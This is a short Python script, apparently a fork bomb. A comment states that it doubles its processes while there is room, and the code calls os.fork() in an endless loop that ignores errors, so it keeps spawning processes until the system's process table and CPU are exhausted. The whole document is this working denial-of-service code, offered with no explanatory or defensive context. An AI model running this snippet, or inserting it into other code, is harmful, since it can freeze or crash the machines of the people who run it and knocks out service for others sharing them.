# Doubles its processes for as long as there is room, and each is busy.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
